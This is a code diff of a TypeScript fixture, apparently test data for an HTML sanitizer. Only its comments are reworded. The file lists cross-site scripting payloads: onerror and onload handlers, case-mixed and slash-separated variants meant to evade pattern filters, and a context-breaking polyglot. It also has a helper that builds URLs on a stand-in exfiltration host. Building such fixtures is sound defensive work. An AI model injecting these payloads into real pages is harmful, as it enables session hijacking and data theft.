@@ -1,6 +1,6 @@
-/** What a payload calls when it runs, and where it would send what it found. */
+/** The call that payloads make when they run. */
 export const run = 'pwned(1)'
-/** An address outside, a fresh one each. */
+/** An external address, unique for each payload. */
 export const outside = (at: string | number) => `https://evil.test/${at}`
 
 const events: readonly string[] = [
@@ -36,7 +36,7 @@ const events: readonly string[] = [
   `<img src=x onerror=${run} loading=eager decoding=sync>`,
 ]
 
-/** One handler, written in ways that a filter by pattern lets through. */
+/** One handler, written to evade pattern filters. */
 const disguised: readonly string[] = [
   `<ImG sRc=x OnErRoR=${run}>`,
   `<img/src=x/onerror=${run}>`,
@@ -98,5 +98,5 @@ const scripts: readonly string[] = [
   `javascript:/*--></title></style></textarea></script><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+${run}//'>`,
 ]
 
-/** Every raw tag with a script or a handler in it. */
+/** HTML with scripts and event handlers. */
 export const activeHtml: readonly string[] = [...events, ...disguised, ...scripts]
